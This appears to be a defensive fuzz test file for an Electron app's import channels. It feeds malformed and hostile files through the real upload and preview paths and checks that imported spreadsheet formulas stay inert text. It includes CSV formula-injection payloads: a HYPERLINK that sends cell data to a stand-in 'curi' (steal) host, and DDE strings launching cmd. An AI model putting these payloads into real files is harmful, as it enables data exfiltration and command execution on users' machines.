import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dispatch } from '../../../electron/main/ipc/dispatch';
import type { FilePurpose } from '../../../shared/domain/files';
import type { MeetingId, UnitId } from '../../../shared/domain/ids';
import { seedCommitment } from '../support/followUpSeed';
import type { IpcChannel } from '../../../shared/ipc/contract';
import { badAnswer, contentHash, openFuzzWorld, type FuzzWorld } from './fuzzSupport';

/*
 * Twenty hostile files through the real import channels (files:upload, then the preview and
 * apply of the master-data, follow-up, archive and verification imports): each is refused
 * with a clear message or previewed correctly, nothing is written, nothing crashes, and
 * spreadsheet formulas stay inert text both on the way in and in the workbooks the app writes.
 */
let world: FuzzWorld;
beforeAll(async () => {
  world = await openFuzzWorld();
});
afterAll(() => world.dispose());

type Answer = { ok: true; value: unknown } | { ok: false; error: { code: string; message: string } };

async function call(channel: IpcChannel, input: unknown): Promise<Answer> {
  const result = (await dispatch(channel, input, world.ctx, world.errors)) as Answer;
  expect(badAnswer(result), `${channel}: ${JSON.stringify(result).slice(0, 300)}`).toBeNull();
  if (!result.ok) expect(result.error.code, result.error.message).not.toBe('INTERNAL');
  return result;
}

async function upload(purpose: FilePurpose, name: string, bytes: Buffer): Promise<Answer> {
  return call('files:upload', { purpose, name, dataBase64: bytes.toString('base64') });
}

async function workbook(rows: ReadonlyArray<ReadonlyArray<unknown>>, sheet = 'OPD'): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const ws = book.addWorksheet(sheet);
  for (const row of rows) ws.addRow([...row]);
  return Buffer.from(await book.xlsx.writeBuffer());
}

const utf16le = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const utf16beNoBom = (text: string) => Buffer.from(text, 'utf16le').swap16();
const junk = (size: number, seed = 7) => {
  const bytes = Buffer.alloc(size);
  let x = seed;
  for (let i = 0; i < size; i += 1) {
    x = (x * 1103515245 + 12345) >>> 0;
    bytes[i] = x >>> 24;
  }
  return bytes;
};

const HEADER = 'kode,nama,singkatan,jenis\n';
const FORMULAS = [
  '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

type Case = Readonly<{
  label: string;
  purpose: FilePurpose;
  name: string;
  bytes: () => Promise<Buffer> | Buffer;
  expect: 'refused' | 'previewed' | 'either';
}>;

const masterCases: ReadonlyArray<Case> = [
  {
    label: 'truncated XLSX',
    purpose: 'import-master',
    name: 'opd.xlsx',
    expect: 'refused',
    bytes: async () =>
      (
        await workbook([
          ['kode', 'nama'],
          ['SETDA', 'Sekretariat'],
        ])
      ).subarray(0, 900),
  },
  {
    label: 'binary junk named .xlsx',
    purpose: 'import-master',
    name: 'opd.xlsx',
    expect: 'refused',
    bytes: () => junk(64 * 1024),
  },
  {
    label: 'binary junk named .csv',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => junk(64 * 1024, 11),
  },
  {
    label: 'only a header',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => Buffer.from(HEADER),
  },
  {
    label: 'UTF-16 LE with BOM',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => utf16le(`${HEADER}DLH,Dinas Lingkungan Hidup,DLH,dinas\n`),
  },
  {
    label: 'UTF-16 BE without BOM',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => utf16beNoBom(`${HEADER}DLH,Dinas Lingkungan Hidup,DLH,dinas\n`),
  },
  {
    label: 'mixed UTF-8 and Windows-1252 lines',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () =>
      Buffer.concat([
        Buffer.from(`${HEADER}DLH,Dinas Lingkungan Hidup – Bidang Pengelolaan,DLH,dinas\n`),
        Buffer.from([
          0x44, 0x50, 0x4b, 0x2c, 0x44, 0x69, 0x6e, 0x61, 0x73, 0x20, 0xe9, 0xe8, 0x2c, 0x44, 0x50, 0x4b, 0x2c, 0x64,
          0x69, 0x6e, 0x61, 0x73, 0x0a,
        ]),
      ]),
  },
  {
    label: '200 columns',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () =>
      Buffer.from(
        `${Array.from({ length: 200 }, (_, i) => `kolom${i}`).join(',')}\n${Array.from({ length: 200 }, (_, i) => `nilai${i}`).join(',')}\n`,
      ),
  },
  {
    label: 'one 2 MB line',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => Buffer.from(`${HEADER}DLH,${'Dinas '.repeat(350_000)},DLH,dinas\n`),
  },
  {
    label: 'NUL bytes inside fields',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => Buffer.from(`${HEADER}DL\u0000H,Dinas\u0000Lingkungan,DLH,dinas\n`),
  },
  {
    label: 'unbalanced quotes',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => Buffer.from(`${HEADER}"DLH,Dinas Lingkungan Hidup,DLH,dinas\nDPK,"Dinas Perpustakaan,DPK,dinas\n`),
  },
  {
    label: 'old .xls (OLE) renamed .xlsx',
    purpose: 'import-master',
    name: 'opd.xlsx',
    expect: 'refused',
    bytes: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), junk(4096, 3)]),
  },
  {
    label: 'a zip that is not a workbook',
    purpose: 'import-master',
    name: 'opd.xlsx',
    expect: 'refused',
    bytes: async () => {
      const zip = new JSZip();
      zip.file('bukan/lembar.txt', 'bukan lembar kerja');
      return Buffer.from(await zip.generateAsync({ type: 'uint8array' }));
    },
  },
  { label: 'zero bytes', purpose: 'import-master', name: 'opd.csv', expect: 'refused', bytes: () => Buffer.alloc(0) },
  {
    label: 'a program renamed',
    purpose: 'import-master',
    name: 'opd.exe',
    expect: 'refused',
    bytes: () => Buffer.from('MZ\u0090\u0000 program'),
  },
  {
    label: 'semicolon CSV as Excel (id-ID) saves it',
    purpose: 'import-master',
    name: 'opd.csv',
    expect: 'either',
    bytes: () => Buffer.from('kode;nama;singkatan;jenis\r\nDLH;Dinas Lingkungan Hidup;DLH;dinas\r\n'),
  },
];

describe('malicious imports: master data (files:upload -> import:preview-master -> import:apply-master)', () => {
  it.each(masterCases.map((c) => [c.label, c]))('%s: refused or previewed, nothing written', async (_label, c) => {
    const before = contentHash(world.db);
    const staged = await upload(c.purpose, c.name, await c.bytes());
    if (!staged.ok) {
      expect(c.expect).not.toBe('previewed');
      expect(contentHash(world.db)).toBe(before);
      return;
    }
    const { fileId } = staged.value as { fileId: string };
    const preview = await call('import:preview-master', { fileId });
    if (c.expect === 'refused') expect(preview.ok, JSON.stringify(preview).slice(0, 300)).toBe(false);
    expect(contentHash(world.db)).toBe(before);
    const applied = await call('import:apply-master', { fileId });
    // A file that previews with errors (or nothing to add) must not write; only clean rows may.
    const summary = preview.ok ? (preview.value as { summary: { errorRows: number; okRows: number } }).summary : null;
    if (!applied.ok || !summary || summary.errorRows > 0 || summary.okRows === 0)
      expect(contentHash(world.db)).toBe(before);
  });

  it('a 50 MB CSV: answered within the time a user waits, nothing written unless every row is clean', async () => {
    const before = contentHash(world.db);
    const rows: string[] = [HEADER];
    let size = HEADER.length;
    for (let i = 0; size < 50 * 1024 * 1024; i += 1) {
      const line = `OPD${i},Dinas Contoh Nomor ${i} Bidang Perencanaan dan Evaluasi Program Daerah,DC${i},dinas\n`;
      rows.push(line);
      size += line.length;
    }
    const started = performance.now();
    const staged = await upload('import-master', 'opd-besar.csv', Buffer.from(rows.join('')));
    if (staged.ok) {
      const preview = await call('import:preview-master', { fileId: (staged.value as { fileId: string }).fileId });
      if (preview.ok) expect((preview.value as { summary: { rows: number } }).summary.rows).toBe(rows.length - 1);
    }
    expect(performance.now() - started).toBeLessThan(120_000);
    expect(contentHash(world.db)).toBe(before);
  }, 240_000);

  it('CSV formulas are kept as inert text and written to Excel as text, never as formulas', async () => {
    const csv =
      HEADER + FORMULAS.map((formula, i) => `F${i},"${formula.replaceAll('"', '""')}",F${i},dinas`).join('\n') + '\n';
    const staged = await upload('import-master', 'opd-rumus.csv', Buffer.from(csv));
    expect(staged.ok).toBe(true);
    const fileId = (staged as { value: { fileId: string } }).value.fileId;
    const preview = await call('import:preview-master', { fileId });
    expect(preview.ok).toBe(true);
    const previewText = JSON.stringify(preview);
    for (const formula of FORMULAS) expect(previewText).toContain(JSON.stringify(formula).slice(1, -1));
    const applied = await call('import:apply-master', { fileId });
    expect(applied.ok, JSON.stringify(applied)).toBe(true);
    const stored = world.db.prepare(`SELECT id, name FROM units WHERE code LIKE 'F%' ORDER BY code`).all() as Array<{
      id: string;
      name: string;
    }>;
    expect(stored.map((unit) => unit.name)).toEqual(FORMULAS);

    // The request form workbook names these OPD and their open commitments: text cells, never <f>.
    const meetingId = (world.db.prepare('SELECT id FROM meetings LIMIT 1').get() as { id: MeetingId }).id;
    for (const unit of stored)
      seedCommitment(world.db, meetingId, `${FORMULAS[0]} laporan`, '2026-12-10', [[unit.id as UnitId, 'BELUM']]);
    const exported = await call('followup:request-export', {
      unitIds: stored.map((unit) => unit.id),
      letter: false,
      form: true,
      letterNumber: '',
      replyBy: '2026-12-15',
      signerPersonId: null,
    });
    expect(exported.ok, JSON.stringify(exported).slice(0, 300)).toBe(true);
    const delivery = (exported as { value: { downloadId: string } }).value;
    const files = world.ctx.files as unknown as { takeDownload: (id: string) => { bytes: Buffer } | null };
    const taken = files.takeDownload(delivery.downloadId) ?? undefined;
    expect(taken).toBeDefined();
    const xml = await allXml(taken!.bytes);
    expect(xml).not.toMatch(/<f[ >][^<]*(HYPERLINK|cmd|SUM)/i);
    expect(xml).toContain('HYPERLINK(&quot;http://contoh.invalid');
  });

  it('formula cells in an uploaded XLSX are read as their text, never evaluated', async () => {
    const book = new ExcelJS.Workbook();
    const ws = book.addWorksheet('OPD');
    ws.addRow(['kode', 'nama', 'singkatan', 'jenis']);
    ws.addRow(['FX1', { formula: 'HYPERLINK("http://contoh.invalid","Klik")', result: 'Klik' }, 'FX1', 'dinas']);
    const before = contentHash(world.db);
    const staged = await upload('import-master', 'opd-rumus.xlsx', Buffer.from(await book.xlsx.writeBuffer()));
    expect(staged.ok).toBe(true);
    const preview = await call('import:preview-master', {
      fileId: (staged as { value: { fileId: string } }).value.fileId,
    });
    expect(JSON.stringify(preview)).not.toContain('contoh.invalid');
    expect(contentHash(world.db)).toBe(before);
  });
});

async function allXml(bytes: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  let text = '';
  for (const file of Object.values(zip.files)) {
    if (file.dir) continue;
    if (file.name.endsWith('.xml') || file.name.endsWith('.rels')) text += await file.async('string');
    else if (/\.(xlsx|docx|zip)$/i.test(file.name)) text += await allXml(Buffer.from(await file.async('uint8array')));
  }
  return text;
}

describe('malicious imports: follow-up reports, archives and verification', () => {
  const others: ReadonlyArray<readonly [string, FilePurpose, string, IpcChannel, () => Promise<Buffer> | Buffer]> = [
    ['junk follow-up report', 'import-followup', 'laporan.xlsx', 'followup:import-preview', () => junk(32 * 1024, 5)],
    [
      'a workbook that is not the request form',
      'import-followup',
      'laporan.xlsx',
      'followup:import-preview',
      () =>
        workbook(
          [
            ['bukan', 'formulir'],
            [1, 2],
          ],
          'Lain',
        ),
    ],
    ['junk archive', 'archive', 'arsip.risalah', 'backups:import-archive', () => junk(128 * 1024, 9)],
    [
      'truncated archive zip',
      'archive',
      'arsip.risalah',
      'backups:import-archive',
      async () => {
        const zip = new JSZip();
        zip.file('risalah.db', junk(8192, 2));
        return Buffer.from(await zip.generateAsync({ type: 'uint8array' })).subarray(0, 4000);
      },
    ],
    ['junk DOCX to verify', 'verify', 'notula.docx', 'approval:verify-file', () => junk(16 * 1024, 4)],
  ];

  it.each(others.map((entry) => [entry[0], entry]))(
    '%s: clean answer, nothing written',
    async (_label, [, purpose, name, channel, bytes]) => {
      const before = contentHash(world.db);
      const staged = await upload(purpose, name, await bytes());
      if (staged.ok) {
        const answer = await call(channel, { fileId: (staged.value as { fileId: string }).fileId });
        // The follow-up preview answers a foreign workbook with its file problems and no rows.
        if (channel === 'followup:import-preview' && answer.ok)
          expect(answer.value).toMatchObject({ rows: [], fileProblems: [expect.any(String)] });
        else if (channel !== 'approval:verify-file')
          expect(answer.ok, JSON.stringify(answer).slice(0, 300)).toBe(false);
        if (channel === 'followup:import-preview')
          await call('followup:import-apply', { fileId: (staged.value as { fileId: string }).fileId });
      }
      expect(contentHash(world.db)).toBe(before);
    },
  );
});
